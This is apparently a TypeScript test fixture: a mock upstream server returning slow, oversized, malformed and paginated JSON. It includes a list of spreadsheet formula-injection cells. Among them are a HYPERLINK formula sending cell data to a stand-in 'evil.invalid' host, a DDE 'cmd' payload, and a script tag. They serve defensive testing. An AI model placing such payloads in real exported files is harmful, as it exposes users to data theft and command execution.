import { randomBytes } from 'node:crypto';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { parentPort } from 'node:worker_threads';
import { jsonStringsOf, spellingsOf } from './spellings.ts';

/** An upstream whose path selects what it does: respond with much data, slowly, with an error, or with the secret. */
const handlers: Readonly<Record<string, (url: URL, response: ServerResponse) => void>> = {
  '/rows': (_url, response) => send(response, ROWS),
  '/sheet': (url, response) => {
    const count = Number(url.searchParams.get('rows') ?? 0);
    const rowAt = url.searchParams.has('noise') ? noisyRow : plainRow;
    const more = Array.from({ length: count }, (_, n) => rowAt(n));
    send(response, `{"rows":[${[...HOSTILE_ROWS, ...more].join(',')}]}`);
  },
  '/pages': (url, response) => {
    pagesSent++;
    const kind = url.searchParams.get('kind') ?? '';
    const number = (name: string): number => Number(url.searchParams.get(name) ?? 0);
    const page = pageOf(kind, { page: number('page'), limit: number('limit'), n: number('n') });
    if (kind !== 'slow') send(response, JSON.stringify(page));
    else {
      waiting++;
      const timer = setTimeout(() => send(response, JSON.stringify(page)), 15_000);
      response.once('close', () => {
        waiting--;
        clearTimeout(timer);
      });
    }
  },
  '/pages-sent': (_url, response) => send(response, JSON.stringify({ pages: pagesSent })),
  '/large': (url, response) => {
    const bytes = Number(url.searchParams.get('mib') ?? 1) * 1024 * 1024;
    send(response, `{"text":"${'x'.repeat(bytes - 16)}"}`);
  },
  '/slow': (url, response) => {
    const timer = setTimeout(() => send(response, '{}'), Number(url.searchParams.get('ms')));
    waiting++;
    response.once('close', () => {
      waiting--;
      clearTimeout(timer);
    });
  },
  '/waiting': (_url, response) => send(response, JSON.stringify({ waiting })),
  '/fail': (_url, response) => {
    response.statusCode = 503;
    send(response, '{}');
  },
  '/echo': (url, response) => {
    response.statusCode = Number(url.searchParams.get('status') ?? 200);
    const token = url.searchParams.get('token') ?? '';
    const forms = [
      ...spellingsOf(token).map((form) => JSON.stringify(form)),
      ...jsonStringsOf(token).map((text) => `"${text}"`),
    ];
    send(response, `{"forms":[${forms}]}`);
  },
};

const ROWS = JSON.stringify({
  rows: Array.from({ length: 40 }, (_, n) => ({ id: `row-${n}`, name: '서울특별시', value: n })),
});

/** Cells with which spreadsheets begin a formula, or browsers a page. */
const HOSTILE_CELLS = [
  '=1+1',
  '=HYPERLINK("http://evil.invalid?"&A1)',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＋1',
  '－1a',
  '＠a',
  '","=1+1',
  '"\r\n=1+1',
  '<script>alert(1)</script>',
];
const HOSTILE_ROWS = HOSTILE_CELLS.map(
  (cell) =>
    `{"name":${JSON.stringify(cell)},"=column":${JSON.stringify(`x${cell}`)},"value":-12.50}`,
);
const plainRow = (n: number): string => `{"name":"서울특별시 ${n}","=column":"x","value":${n}.50}`;
const noisyRow = (n: number): string =>
  `{"name":"${randomBytes(12).toString('base64')}","=column":"x","value":${n}.50}`;

let waiting = 0;
let pagesSent = 0;

/** A page of rows, and what is wrong with it. */
function pageOf(kind: string, { page, limit, n }: Readonly<Record<string, number>>): object {
  const rowsFrom = (first: number, count: number): object[] =>
    Array.from({ length: count }, (_, row) => ({ id: first + row }));
  const full = rowsFrom(((page ?? 1) - 1) * (limit ?? 0), limit ?? 0);
  switch (kind) {
    case 'endless':
      return { rows: full };
    case 'same':
      return { rows: rowsFrom(0, limit ?? 0), total: 10_000 };
    case 'huge_total':
      return { rows: full, total: 9e15 };
    case 'negative_total':
      return { rows: full, total: -5 };
    case 'text_total':
      return { rows: full, total: 'many' };
    case 'growing_total':
      return { rows: full, total: (page ?? 1) * 100 + 50 };
    case 'empty':
      return { rows: [], total: 500 };
    case 'wide':
      return {
        rows: [Object.fromEntries(rowsFrom(0, 400).map((_, c) => [`${n}_${c}`, c]))],
        total: 1,
      };
    case 'names':
      return JSON.parse(
        '{"rows":[{"__proto__":1,"constructor":2,"kind":3,"n":4,"toString":5}],"total":1}',
      );
    case 'failure':
      return { message: 'no rows today' };
    default:
      return { rows: [{ kind, n }], total: 1 };
  }
}

function send(response: ServerResponse, body: string): void {
  response.setHeader('content-type', 'application/json').end(body);
}

function handle(request: IncomingMessage, response: ServerResponse): void {
  const url = new URL(request.url ?? '/', 'http://upstream.invalid');
  request.resume().once('end', () => {
    const handler = handlers[url.pathname];
    if (handler) handler(url, response);
    else send(response, '{}');
  });
}

const server = createServer(handle).listen(0, '127.0.0.1', () => {
  const address = server.address();
  parentPort?.postMessage(typeof address === 'object' && address ? address.port : 0);
});
